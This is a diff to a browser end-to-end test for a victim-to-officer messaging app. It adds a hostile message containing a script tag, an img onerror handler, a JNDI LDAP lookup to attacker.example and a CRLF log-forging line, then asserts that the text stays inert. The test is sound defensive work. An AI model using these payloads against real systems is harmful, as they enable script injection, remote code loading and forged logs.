@@ -115,10 +115,13 @@ abstract class AbstractServerWalkTest {
     // a message to the officer
     victim.click("main nav >> text=Messages");
     victim.check("#topic");
-    victim.fill("#body", "Has anyone looked at the CCTV from the shop opposite?");
+    // hostile text a victim could type: it must stay text on every page that shows it
+    victim.fill("#body", "Has anyone looked at the CCTV from the shop opposite? " + HOSTILE);
     victim.click("#send");
     assertThat(victim.url()).endsWith("/messages/sent");
     assertThat(victim.textContent(".tmc-status")).isEqualTo("Received by the Command Hub");
+    assertThat(victim.textContent("main")).contains("<script>window.tmcInjected = 1</script>");
+    assertInert(victim, "main");
 
     // the hub operator: sign in, the message in the inbox, forward it
     Page hub = browser.newPage();
@@ -131,7 +134,12 @@ abstract class AbstractServerWalkTest {
     assertThat(hub.textContent("main")).contains("Message: question");
     BrowserSupport.assertAccessible(hub);
     hub.click("main a.govuk-link >> text=Message: question");
-    assertThat(hub.textContent("#message-body")).contains("CCTV from the shop opposite");
+    assertThat(hub.textContent("#message-body"))
+        .contains("CCTV from the shop opposite")
+        .contains("<script>window.tmcInjected = 1</script>")
+        .contains("<img src=x onerror=\"window.tmcInjected = 2\">")
+        .contains("${jndi:ldap://attacker.example/a}");
+    assertInert(hub, "#message-body");
     hub.fill("#officerRef", DemoStaff.OFFICERS.get(0));
     hub.fill("#forward-note", "Please call the victim back");
     hub.click("button >> text=Forward");
@@ -141,6 +149,20 @@ abstract class AbstractServerWalkTest {
     victim.reload();
     assertThat(victim.textContent(".tmc-status")).isEqualTo("Sent to the officer");
     assertThat(victim.textContent("main")).doesNotContain("Please call the victim back");
+  }
+
+  /** Script, an image with a handler and a JNDI look-up, with a forged line after a line break. */
+  private static final String HOSTILE =
+      "<script>window.tmcInjected = 1</script> <img src=x onerror=\"window.tmcInjected = 2\">"
+          + " ${jndi:ldap://attacker.example/a}\r\nINFO forged line";
+
+  /** The hostile text was shown as text: no element made of it, no script of it ran. */
+  private static void assertInert(Page page, String container) {
+    assertThat(page.locator(container + " script").count()).as("script elements").isZero();
+    assertThat(page.locator(container + " img").count()).as("img elements").isZero();
+    assertThat(page.evaluate("() => window.tmcInjected === undefined"))
+        .as("no injected script ran")
+        .isEqualTo(true);
   }
 
   private static void awaitTrue(String what, BooleanSupplier condition)
